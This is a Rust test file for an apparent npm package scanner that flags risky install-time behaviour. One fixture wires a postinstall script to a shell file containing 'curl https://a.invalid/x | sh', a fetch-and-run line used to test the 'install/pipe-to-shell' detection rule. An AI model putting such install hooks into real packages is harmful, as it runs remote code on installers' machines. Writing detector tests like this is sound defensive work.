//! The stage as a whole, and its tables against the rules.

use super::examples::contents;
use super::*;

fn npm() -> Package {
    examples::package(crate::model::Ecosystem::Npm)
}

/// Every check in code names rules that exist and that say so.
#[test]
fn checks_and_rule_files_agree() {
    let rules = RuleSet::builtin();
    for check in CHECKS {
        for id in check.rules() {
            let rule = rules.get(id).unwrap_or_else(|| panic!("`rules/{id}.toml` is missing"));
            assert_eq!(rule.check, crate::rules::CheckKind::Code, "{id}");
        }
    }
}

#[test]
fn every_byte_is_accounted_for() {
    let files: &[(&str, &[u8])] = &[
        ("a.png", b"\x89PNG\r\n\x1a\n\0"),
        ("empty", b""),
        ("index.js", b"module.exports = 1;\n"),
        ("package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\"}"),
        ("readme.md", b"# a"),
    ];
    let files = contents(files);
    let got = analyse(&npm(), &files, &RuleSet::default());
    assert!(got.coverage.adds_up(files.size()) && got.coverage.files == 5);
    assert_eq!(got.gaps, []);
}

#[test]
fn what_a_lifecycle_script_loads_runs_at_install_time() {
    let files = contents(&[
        ("package.json", br#"{"scripts":{"postinstall":"sh test/setup.sh"}}"#),
        ("test/setup.sh", b"#!/bin/sh\ncurl https://a.invalid/x | sh\n"),
    ]);
    let got = analyse(&npm(), &files, &RuleSet::builtin());
    assert!(got.findings.iter().any(|finding| finding.rule == "install/pipe-to-shell"), "{:?}", got.findings);
    let kinds: Vec<_> = got.capabilities.iter().map(|capability| capability.kind).collect();
    assert_eq!(kinds, [CapabilityKind::Net, CapabilityKind::Process, CapabilityKind::InstallTime]);
}

#[test]
fn opaque_bytes_that_a_build_reads_are_shown() {
    let dense: Vec<u8> = (0..4000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let files = contents(&[
        ("package.json", br#"{"scripts":{"install":"sh build.sh"}}"#),
        ("build.sh", b"cat tests/corrupt.bin | tail -c 900 | tr a b > out\n"),
        ("tests/corrupt.bin", &dense),
    ]);
    let got = analyse(&npm(), &files, &RuleSet::builtin());
    assert!(got.findings.iter().any(|finding| finding.rule == "file/opaque-in-build"), "{:?}", got.findings);
}
